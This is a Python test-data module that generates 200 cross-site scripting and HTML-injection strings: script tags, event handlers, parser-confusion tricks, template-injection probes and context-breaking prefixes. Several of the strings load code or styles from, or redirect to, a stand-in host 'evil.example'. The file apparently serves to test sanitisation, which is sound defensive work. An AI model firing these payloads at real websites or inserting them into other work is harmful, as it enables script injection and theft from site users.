"""Two hundred lines that would run something where a page takes words for markup."""

from itertools import product

# Each sets `window.ran` in its own way, or asks for something that is not ours.
WAYS = (
    "<script>window.ran=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT/x>window.ran=1</SCRIPT>",
    "<scr<script>ipt>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    "<img/src=x/onerror=window.ran=1//",
    "<svg onload=window.ran=1>",
    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "<svg><script>window.ran=1</script></svg>",
    "<body onload=window.ran=1>",
    "<iframe src=javascript:parent.ran=1></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<object data=javascript:window.ran=1></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>Approve</button></form>",
    "<input autofocus onfocus=window.ran=1>",
    "<details open ontoggle=window.ran=1>",
    "<video><source onerror=window.ran=1></video>",
    "<audio src=x onerror=window.ran=1>",
    "<marquee onstart=window.ran=1>x</marquee>",
    "<a href=javascript:window.ran=1 autofocus>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
    "<template><script>window.ran=1</script></template>",
    "<textarea></textarea><script>window.ran=1</script>",
    "<div hx-get=//evil.example hx-trigger=load>",
    "<div hx-on:click=window.ran=1 hx-trigger=load>",
    "<div style=width:expression(window.ran=1)>",
    "<p onmouseover=window.ran=1 style=position:fixed;inset:0>",
    "<xss id=x tabindex=1 onfocus=window.ran=1>",
    "{{ 7|add:request.user }}",
    "{% debug %}{% include 'admin/base.html' %}",
    "${window.ran=1} #{window.ran=1} <%= window.ran=1 %>",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "\u202e\u2066<img src=x onerror=window.ran=1>\u2069",
)
# Out of an attribute, a script, a comment, a style; or as it stands.
BEFORE = ("", '">', "'>", "--></style></title></script>", "`;</textarea>")
LINES = tuple(f"{before}{way}" for way, before in product(WAYS, BEFORE))
